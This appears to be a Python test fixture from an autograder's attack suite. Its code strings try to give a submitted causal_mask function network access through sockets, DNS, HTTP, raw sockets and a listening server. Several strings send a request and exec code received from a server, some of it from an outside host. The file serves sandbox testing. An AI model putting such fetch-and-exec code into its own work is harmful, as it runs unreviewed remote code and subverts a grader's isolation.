"""Ask somebody else."""

from tests.autograder.attacks import mask

ASK = "s.sendall(b'?')\nnames = dict(torch=torch)\nexec(s.recv(4096).decode(), names)\nreturn names['causal_mask'](length)"

ATTACKS = {
    "a server on the loopback": mask(
        "import socket\ns = socket.create_connection(('127.0.0.1', PORT), 3)\n" + ASK,
        controlled=True,
    ),
    "an abstract socket": mask(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0ABSTRACT')\n" + ASK,
        controlled=True,
    ),
    "a server outside": mask(
        "import socket\ns = socket.create_connection(('1.1.1.1', 53), 3)\n" + ASK
    ),
    "a name": mask("import socket\nreturn socket.gethostbyname('example.org')"),
    "a web page": mask(
        "import urllib.request\nreturn urllib.request.urlopen('http://127.0.0.1:PORT', timeout=3).read()"
    ),
    "a raw socket": mask("import socket\nreturn socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
    "a port to listen on": mask(
        "import socket\ns = socket.create_server(('0.0.0.0', 0))\nreturn s.getsockname()"
    ),
}
